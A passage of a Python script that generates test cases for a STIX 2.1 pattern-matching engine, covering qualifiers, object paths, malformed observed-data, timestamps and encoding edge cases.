    """Many observations under REPEATS / AND / FOLLOWEDBY / WITHIN: exercises the binding search."""
    r = g.r
    markers = {k: g.MARKERS[k] for k in ("A", "B", "C")}
    for _ in range(n):
        w, _ = g.timeline(r.randint(6, 9), markers, ranges=0.2, numbers=(1, 1, 2, 3),
                          spread=tuple(range(0, 120, 7)))
        k = r.randint(3, 7)
        e = r.choice([
            f"[file:name = 'alpha.exe'] REPEATS {k} TIMES",
            f"([file:name = 'alpha.exe'] AND [ipv4-addr:value = '198.51.100.7']) REPEATS {k // 2 + 1} TIMES",
            f"([file:name = 'alpha.exe'] FOLLOWEDBY [domain-name:value = 'evil.example.com']) REPEATS {k // 2} TIMES",
            f"([file:name = 'alpha.exe'] REPEATS {k} TIMES) WITHIN 60.5 SECONDS",
            f"[file:name = 'alpha.exe'] FOLLOWEDBY ([ipv4-addr:value = '198.51.100.7'] REPEATS {k // 2} TIMES)",
        ])
        g.emit("stress", e, w)


def gen_more_paths(g):
    """The spec's own path examples, and _refs lists whose earlier entries do not resolve."""
    r = g.r
    for hidden in (False, True):
        w = World(r)
        f1 = w.add("file", {"name": "Final Report.exe"}, hidden=hidden)
        f2 = w.add("file", {"name": "readme.txt"})
        d = w.add("directory", {"path": "C:\\Windows", "contains_refs": [f1["id"], f2["id"]]})
        w.observe([d["id"], f2["id"]] + ([] if hidden else [f1["id"]]), 0)
        for pat in ("[directory:contains_refs[*].name = 'Final Report.exe']",
                    "[directory:contains_refs[0].name = 'Final Report.exe']",
                    "[directory:contains_refs[0].name = 'readme.txt']",
                    "[directory:contains_refs[1].name = 'readme.txt']",
                    "[directory:contains_refs[*].name NOT = 'readme.txt']",
                    "[directory:path LIKE 'C:\\\\Windows%']",
                    "[directory:path MATCHES '^C:\\\\\\\\Windows$']"):
            w2 = World(r)
            w2.scos, w2.by_id, w2.observed = w.scos, w.by_id, w.observed
            g.emit("path", pat, w2)


def gen_malformed(g):
    """Observed-data that breaks the rules: both sides must refuse (or ignore) it the same way."""
    r = g.r
    edits = [
        ("number_observed", 0), ("number_observed", -1), ("number_observed", "2"), ("number_observed", 1.5),
        ("first_observed", None), ("last_observed", None), ("object_refs", None), ("object_refs", []),
        ("first_observed", "2026-03-01T12:00:00"), ("last_observed", "2026-03-01 12:00:00Z"),
        ("object_refs", ["file--00000000-0000-4000-8000-000000000000"]),
        ("last_observed", "2026-03-01T11:00:00Z"),
    ]
    for key, value in edits:
        for pattern in ("[file:name = 'a']", "[file:name = 'a'] WITHIN 5 SECONDS", "[file:name = 'a'] REPEATS 2 TIMES"):
            w = World(r)
            f = w.add("file", {"name": "a"})
            od = w.observe([f["id"]], 0, 1)
            if value is None:
                del od[key]
            else:
                od[key] = value
            g.emit("malformed", pattern, w)


def gen_structure(g):
    """Paths that meet the wrong JSON shape, common properties, SDO/SRO objects in object_refs, odd references."""
    r = g.r
    w = World(r)
    d = w.add("directory", {"path": "/tmp"})
    f = w.add("file", {"name": "a.txt", "x_tags": ["apt", "x"], "x_matrix": [[1, 2], [3]], "x_empty": [],
                       "hashes": {"MD5": "00112233445566778899aabbccddeeff"}, "x_null": None,
                       "x_obj": {"k-1": {"k.2": "deep"}}, "parent_directory_ref": d["id"],
                       "x_num_ref": 5, "x_list_ref": [d["id"]], "x_str_refs": d["id"]})
    rel = w.add("relationship", {"spec_version": "2.1", "created": ts(0, 3), "modified": ts(0, 3),
                                 "relationship_type": "contains", "source_ref": d["id"], "target_ref": f["id"]})
    ind = w.add("indicator", {"spec_version": "2.1", "created": ts(0, 3), "modified": ts(0, 3), "name": "ind",
                              "pattern": "[file:name = 'a.txt']", "pattern_type": "stix", "valid_from": ts(0, 3)})
    custom = w.add("x-custom-sco", {"name": "custom", "x_ref": f["id"]})
    od = w.observe([f["id"], d["id"], rel["id"], ind["id"], custom["id"]], 0)
    f["x_od_ref"] = od["id"]
    fid = f["id"]
    patterns = [
        "[file:x_tags = 'apt']", "[file:x_tags != 'apt']", "[file:x_tags NOT = 'apt']", "[file:x_tags IN ('apt')]",
        "[file:x_tags LIKE '%']", "[file:x_tags MATCHES '.']", "[EXISTS file:x_tags]", "[file:hashes = 'x']",
        "[file:hashes != 'x']", "[file:hashes[0] = 'x']", "[file:hashes[*] = '00112233445566778899aabbccddeeff']",
        "[file:x_tags.foo = 'apt']", "[file:name[*] = 'a.txt']", "[file:name[0] != 'x']",
        "[file:x_matrix[*][*] = 3]", "[file:x_matrix[0][1] = 2]", "[file:x_matrix[1][1] = 2]",
        "[file:x_matrix[*] = 3]", "[EXISTS file:x_empty]", "[file:x_empty[*] != 'x']", "[EXISTS file:x_empty[0]]",
        "[EXISTS file:x_null]", "[file:x_null = 'x']", "[file:x_null != 'x']",
        "[file:x_obj.'k-1'.'k.2' = 'deep']", "[file:x_obj.'k-1'.k = 'deep']", "[EXISTS file:x_obj.'k-1']",
        f"[file:id = '{fid}']", "[file:type = 'file']", "[file:type != 'directory']", "[EXISTS file:spec_version]",
        "[file:parent_directory_ref = 'x']", "[file:parent_directory_ref.path = '/tmp']",
        "[EXISTS file:parent_directory_ref]", "[file:parent_directory_ref.id LIKE 'directory--%']",
        "[file:x_od_ref.number_observed = 1]", "[EXISTS file:x_od_ref]", "[file:x_num_ref.path = '/tmp']",
        "[file:x_list_ref.path = '/tmp']", "[file:x_str_refs[*].path = '/tmp']",
        "[relationship:relationship_type = 'contains']", "[indicator:name = 'ind']",
        "[observed-data:number_observed = 1]", "[x-custom-sco:name = 'custom']",
        "[x-custom-sco:x_ref.name = 'a.txt']", "[relationship:source_ref.path = '/tmp']",
        "[directory:path = '/tmp' AND file:name = 'a.txt']", "[directory:path = '/tmp' OR file:name = 'zzz']",
    ]
    for pat in patterns:
        w2 = World(r)
        w2.scos, w2.by_id, w2.observed = w.scos, w.by_id, w.observed
        g.emit("struct", pat, w2)


def gen_timestamp_values(g):
    """Timestamp-valued properties written in forms STIX forbids (offsets, lower case, a space), against t''."""
    r = g.r
    for value in ("2026-03-01T13:00:00+01:00", "2026-03-01t12:00:00z", "2026-03-01 12:00:00Z", "2026-03-01T12:00:00Z",
                  "2026-03-01T12:00:00.5Z", "2026-03-01T12:00Z"):
        for op in ("=", "!=", ">="):
            w = World(r)
            f = w.add("file", {"name": "t", "ctime": value})
            w.observe([f["id"]], 0)
            g.emit("tsval", f"[file:ctime {op} t'2026-03-01T12:00:00Z']", w)


def gen_large_counts(g):
    """number_observed in the hundreds against REPEATS near the count (the binding search must not enumerate)."""
    r = g.r
    for n, k, pattern in ((50, 1, "[file:name = 'a'] REPEATS 10 TIMES"), (50, 1, "[file:name = 'a'] REPEATS 50 TIMES"),
                          (50, 1, "[file:name = 'a'] REPEATS 51 TIMES"), (999, 1, "[file:name = 'a'] REPEATS 1000 TIMES"),
                          (999, 1, "[file:name = 'a'] REPEATS 999 TIMES"),
                          (20, 3, "([file:name = 'a'] AND [file:name = 'a']) REPEATS 5 TIMES"),
                          (20, 3, "([file:name = 'a'] FOLLOWEDBY [file:name = 'a']) REPEATS 4 TIMES"),
                          (7, 2, "([file:name = 'a'] REPEATS 3 TIMES) AND ([file:name = 'a'] REPEATS 11 TIMES)"),
                          (7, 2, "([file:name = 'a'] REPEATS 3 TIMES) AND ([file:name = 'a'] REPEATS 12 TIMES)")):
        w = World(r)
        f = w.add("file", {"name": "a"})
        for i in range(k):
            w.observe([f["id"]], i, n=n)
        g.emit("count", pattern, w)


def gen_bad_encodings(g):
    """_bin / _hex properties whose text is not base64 / hex."""
    r = g.r
    for prop, value in (("payload_bin", "not base64!"), ("payload_bin", "QUJD"), ("x_key_hex", "zz"),
                        ("x_key_hex", "abc"), ("x_key_hex", "ABCD")):
        for cmp in (f"artifact:{prop} = 'ABC'", f"artifact:{prop} != 'ABC'", f"EXISTS artifact:{prop}",
                    "artifact:mime_type = 'text/plain'"):
            w = World(r)
            a = w.add("artifact", {"mime_type": "text/plain", prop: value})
            w.observe([a["id"]], 0)
            g.emit("enc", f"[{cmp}]", w)


def gen_timestamp_literals(g):
    """Timestamp literals past microseconds, on leap seconds and on days the calendar does not have."""
    r = g.r
    two = [("file", {"name": "a", "ctime": "2024-03-01T00:00:00Z"})]
    cases = [
        ("[file:name = 'a'] START t'2026-03-01T12:00:00.0000001Z' STOP t'2026-03-01T12:01:00Z'", 0),
        ("[file:name = 'a'] START t'2026-03-01T11:00:00Z' STOP t'2026-03-01T12:00:00.0000001Z'", 0),
        ("[file:name = 'a'] START t'2026-03-01T11:00:00Z' STOP t'2026-03-01T11:59:59.9999999Z'", -0.0000001),
        ("[file:ctime = t'2024-02-30T00:00:00Z']", 0), ("[file:ctime > t'2024-02-29T00:00:00Z']", 0),
        ("[file:ctime < t'2024-02-30T00:00:00Z']", 0), ("[file:ctime >= t'2024-02-29T23:59:60Z']", 0),
        ("[file:name = 'a'] START t'2024-02-30T00:00:00Z' STOP t'2030-01-01T00:00:00Z'", 0),
        ("[file:name = 'a'] START t'2026-02-29T00:00:00Z' STOP t'2030-01-01T00:00:00Z'", 0),
        ("[file:name = 'a'] START t'2026-03-01T11:59:60Z' STOP t'2030-01-01T00:00:00Z'", 0),
    ]
    for pattern, t in cases:
        w = World(r)
        f = w.add(*two[0])
        w.observe([f["id"]], t)
        g.emit("tslit", pattern, w)


# ----------------------------------------------------------------------------------------------------------------


def main():
    g = Gen()
    g.gen_cmp(n_per=38)        # 11 operators x 2 x 38 = 836
    g.gen_exists(45)           # 90
    g.gen_paths(150)           # 150 + 25
    g.gen_literals(110)        # 110 + 126
    g.gen_cidr(110)
    g.gen_bool(125)
    g.gen_obs(200)
    g.gen_qualifiers(80)       # 4 x 80
    gen_edges(g)
    gen_numbers(g, 40)
    gen_binary(g)              # 5 x 22
    gen_stress(g, 16)
    gen_more_paths(g)          # 14
    gen_malformed(g)           # 36
    gen_structure(g)           # 48
    gen_timestamp_values(g)    # 18
    gen_large_counts(g)        # 9
    gen_bad_encodings(g)       # 20
    gen_timestamp_literals(g)  # 10
    out = sys.stdout
    for case in g.cases:
        out.write(json.dumps(case, ensure_ascii=False, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
